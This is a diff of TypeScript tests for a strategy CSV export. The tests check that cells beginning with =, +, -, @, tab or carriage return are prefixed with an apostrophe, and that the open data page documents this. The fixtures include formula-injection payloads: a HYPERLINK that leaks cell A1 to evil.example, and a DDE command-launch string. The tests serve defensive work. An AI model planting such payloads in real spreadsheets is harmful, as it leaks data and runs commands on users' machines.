@@ -4,6 +4,8 @@ import { ACTION_COLUMNS, UPDATE_COLUMNS, actionsCsv, updatesCsv } from "../../sr
 import { buildStrategy, type Action, type StrategyModel } from "../../src/model/index.ts";
 import { readModel } from "../../src/pipeline.ts";
 import { CONTENT } from "../helpers/scratch.ts";
+import { FORMULA_NOTE } from "../../src/site/open-data.ts";
+import { derbySite, readPage, textOf } from "../site/build.ts";
 import { AWKWARD_NOTE, action, strategyFiles } from "./strategy-files.ts";
 
 const _list = (items: readonly string[] | undefined) => (items ?? []).join("; ");
@@ -97,5 +99,47 @@ describe("CSV with awkward text", () => {
     const bytes = Buffer.from(actionsCsv(strategy), "utf8");
     expect([...bytes.subarray(0, 3)]).not.toEqual([0xef, 0xbb, 0xbf]);
     expect(bytes.toString("utf8")).toContain("Gŵyl");
+  });
+});
+
+describe("CSV that a spreadsheet opens", () => {
+  const FORMULAS = {
+    title: '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")',
+    lead: "+44 1332 000000",
+    note: "-2+3 more staff recruited",
+    by: "@SUM(1+1)*cmd|' /C calc'!A0",
+    partner: "\t=1+1",
+    cr: "\r=1+1",
+  };
+  const strategy = buildStrategy(
+    strategyFiles([
+      action("formulas", [{ date: "2021-03-01", status: "at-risk", percent: 40, note: FORMULAS.note, by: FORMULAS.by }], {
+        title: FORMULAS.title,
+        lead: FORMULAS.lead,
+        partners: [FORMULAS.partner, FORMULAS.cr],
+      }),
+    ]),
+  );
+
+  it("starts every cell a spreadsheet would run as a formula (= + - @ tab CR) with an apostrophe", () => {
+    const [row] = parseCsv(actionsCsv(strategy)).rows;
+    expect(row?.["title"]).toBe(`'${FORMULAS.title}`);
+    expect(row?.["lead"]).toBe(`'${FORMULAS.lead}`);
+    expect(row?.["partners"]).toBe(`'${FORMULAS.partner}; ${FORMULAS.cr}`);
+    expect(row?.["last_update_note"]).toBe(`'${FORMULAS.note}`);
+    const [update] = parseCsv(updatesCsv(strategy)).rows;
+    expect(update).toMatchObject({ action_title: `'${FORMULAS.title}`, by: `'${FORMULAS.by}`, note: `'${FORMULAS.note}`, percent: "40", date: "2021-03-01" });
+  });
+
+  it("reads back, in csv-parse, to exactly the text written once the documented apostrophe is taken off", () => {
+    const [update] = parseCsv(updatesCsv(strategy)).rows;
+    const unquote = (cell = "") => cell.replace(/^'(?=[=+\-@\t\r])/, "");
+    expect([unquote(update?.["action_title"]), unquote(update?.["by"]), unquote(update?.["note"])]).toEqual([FORMULAS.title, FORMULAS.by, FORMULAS.note]);
+  });
+
+  it("is explained on the open data page beside the column dictionary", async () => {
+    const page = textOf(readPage(await derbySite(), "derby-mental-health/open-data/index.html").children as never);
+    expect(FORMULA_NOTE).toContain("starts with =, +, -, @, a tab or a carriage return has an apostrophe (') put before it");
+    expect(page).toContain(FORMULA_NOTE);
   });
 });
